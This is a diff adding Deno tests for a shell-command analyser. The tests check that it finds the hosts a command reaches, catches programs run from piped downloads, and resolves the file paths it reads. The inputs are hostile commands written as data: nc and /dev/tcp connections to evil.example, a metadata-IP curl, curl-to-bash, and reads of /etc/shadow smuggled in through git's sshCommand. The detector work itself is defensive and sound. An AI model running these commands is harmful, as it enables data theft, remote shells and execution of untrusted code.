@@ -77,3 +77,86 @@ Deno.test("readShell() parses sh -c, eval, here-documents to shells, and follows
   assert.deepEqual(read("x".repeat(10)).dynamic, []);
   assert.match(readShell("echo hi", { budget: { chars: 3 } }).dynamic[0]!, /too long/);
 });
+
+Deno.test("readShell() names the hosts a command reaches without a URL", () => {
+  const hosts = (s: string) => read(s).hosts;
+  assert.deepEqual(hosts("curl -s 169.254.169.254/latest/"), ["169.254.169.254/latest/"]);
+  assert.deepEqual(hosts("curl -sS -o out.json -H 'Accept: x' -A a/1 https://h.example/"), []);
+  assert.deepEqual(hosts("curl -x evil.example:8080 https://ok.example/"), ["evil.example:8080"]);
+  assert.deepEqual(hosts("curl --resolve ok.example:443:10.0.0.5,10.0.0.6 https://ok.example/"), [
+    "ok.example",
+    "10.0.0.5",
+    "10.0.0.6",
+  ]);
+  assert.deepEqual(hosts("curl --connect-to ok.example:443:evil.example:443 https://ok.example/"), [
+    "ok.example",
+    "evil.example",
+  ]);
+  assert.deepEqual(hosts("nc -w 2 evil.example 443"), ["evil.example"]);
+  assert.deepEqual(hosts("ssh -p 22 -i k u@evil.example uptime"), ["u@evil.example"]);
+  assert.deepEqual(hosts("git clone git@evil.example:x/y"), ["evil.example"]);
+  assert.deepEqual(hosts("git show HEAD:src/a.ts"), []);
+  assert.deepEqual(hosts("rsync -az src evil.example:/tmp"), ["evil.example"]);
+  assert.deepEqual(hosts("exec 3<>/dev/tcp/evil.example/80"), ["evil.example"]);
+  assert.deepEqual(hosts("HTTPS_PROXY=evil.example:3128 curl https://ok.example/"), ["evil.example:3128"]);
+  assert.deepEqual(hosts("socat - TCP:evil.example:80"), ["evil.example"]);
+});
+
+Deno.test("readShell() reports a program read from standard input or a process substitution", () => {
+  for (
+    const c of [
+      "echo x | base64 -d | sh",
+      "curl -s https://x | bash -s -- a",
+      "curl -s https://x | python3 -",
+      "curl -s https://x | node",
+      "curl -s https://x | busybox sh",
+      "bash <(curl -s https://x)",
+      "source <(curl -s https://x)",
+      "cat x | source /dev/stdin",
+      "ls | xargs -I{} sh -c 'cat {}'",
+      "curl -K cfg",
+      "wget -i list.txt",
+    ]
+  ) {
+    assert.notDeepEqual(read(c).dynamic, [], c);
+  }
+  for (
+    const c of [
+      "python3 --version",
+      "node -v",
+      "bash script.sh",
+      "sh < script.sh",
+      "bash <<'E'\ncat /x\nE",
+      "python3 -c 'print(1)'",
+      "python3 -m pytest",
+      "awk '{print $1}' f",
+    ]
+  ) {
+    assert.deepEqual(read(c).dynamic, [], c);
+  }
+});
+
+Deno.test("readShell() reads spaces, globs, recursive commands and commands run from options", () => {
+  const words = (s: string) => read(s).paths.map((p) => `${p.denyOnly ? "?" : ""}${p.word}`);
+  assert.deepEqual(words("cat 'a b/../../etc/passwd'"), ["a b/../../etc/passwd"]);
+  assert.deepEqual(words("cat src/a\\ b.ts"), ["?src/a b.ts"]);
+  assert.deepEqual(words("cat ./*/x"), ["./*/x"]);
+  assert.deepEqual(words("cat *"), ["*"]);
+  assert.deepEqual(words("cat '*'"), []);
+  assert.deepEqual(words("grep -r key ~"), ["~/**", "~"]);
+  assert.deepEqual(words("grep -a key f"), []);
+  assert.deepEqual(words("tar czf /tmp/a.tgz ."), ["./**", "/tmp/a.tgz", "."]);
+  assert.deepEqual(words("tar xzf a.tgz"), []);
+  assert.deepEqual(words("find ~ -name k -exec cat {} +"), ["~/**", "~"]);
+  assert.deepEqual(words("ls src 2>/dev/null"), ["?/dev/null"]);
+  // The config value is also a word (a name for denied paths and patterns only); the command in it is read.
+  assert.deepEqual(words(`git -c core.sshCommand="cat /etc/shadow" fetch`), [
+    "?core.sshCommand=cat /etc/shadow",
+    "/etc/shadow",
+  ]);
+  assert.deepEqual(words(`GIT_SSH_COMMAND="cat /k" git fetch`), ["?cat /k", "/k"]);
+  // A here-document given to a program that only reads data is not scanned as paths.
+  const r = read("cat > o.md <<'E'\nsee /etc/passwd\nE");
+  assert.equal(r.dataRanges.length, 1);
+  assert.equal(read("python3 <<'E'\nopen('/x')\nE").dataRanges.length, 0);
+});
